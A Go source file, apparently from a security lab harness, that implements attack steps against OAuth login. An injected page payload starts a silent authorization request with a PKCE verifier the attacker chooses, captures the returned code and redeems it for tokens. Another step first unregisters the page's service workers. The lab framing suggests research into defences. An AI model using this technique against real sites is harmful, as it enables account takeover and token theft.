package attack

import (
	"context"
	"crypto/rand"
	"crypto/sha256"
	"encoding/base64"
	"net/url"

	"cloakroom/shared/lab"
)

// proof is a PKCE verifier and its challenge (RFC 7636 §4).
func proof() (verifier, challenge string) {
	verifier = rand.Text() + rand.Text()
	sum := sha256.Sum256([]byte(verifier))
	return verifier, base64.RawURLEncoding.EncodeToString(sum[:])
}

// newFlow is A3: have the browser fetch a code for a verifier of the attacker's.
func (m *mission) newFlow(ctx context.Context) error {
	verifier, challenge := proof()
	state, redirect := rand.Text(), m.world.RedirectURI(m.target)
	got, err := m.inject(ctx, "newflow", map[string]string{"redirect": redirect, "authorize": m.world.Issuer() + "/authorize?" + url.Values{
		"response_type": {"code"}, "client_id": {m.world.ClientID(m.target.ID)}, "redirect_uri": {redirect}, "scope": {m.world.Scope()},
		"state": {state}, "prompt": {"none"}, "code_challenge_method": {"S256"}, "code_challenge": {challenge},
	}.Encode()})
	if err != nil {
		return err
	}
	code := piece{kind: lab.KindCode}
	for _, place := range []string{"frame", "window"} {
		address, _ := url.Parse(got.Places[place])
		if address != nil && address.Query().Get("state") == state && address.Query().Get("code") != "" {
			code.from, code.value = place, address.Query().Get("code")
		}
	}
	if code.value == "" {
		// Codes leak in other ways, by logs and histories: what the code is worth
		// must not hang on whether this payload could read it.
		if code.value, code.from = m.world.CodeFor(m.target, state), "given by the lab"; code.value == "" {
			m.step("no code came to where the payload, or the application's server, could have read it")
			return nil
		}
		m.step("the code was sent to %s, where the payload could not read it; the lab gives it to the attacker", redirect)
	}
	m.evidence.Taken = append(m.evidence.Taken, code.loot())
	return m.attacker.redeem(ctx, m.target, code, url.Values{
		"grant_type": {"authorization_code"}, "code": {code.value}, "redirect_uri": {redirect}, "code_verifier": {verifier},
	}, &m.evidence)
}

// unguarded is X6: send the service worker away, and then A3, whose answer it
// would have taken.
func (m *mission) unguarded(ctx context.Context) error {
	got, err := m.inject(ctx, "unregister", map[string]string{})
	if err != nil {
		return err
	}
	if got.Places["workers"] == "0" {
		m.evidence.Missing = "the page has no service worker"
		return nil
	}
	m.step("the payload unregistered %s service workers", got.Places["workers"])
	return m.newFlow(ctx)
}
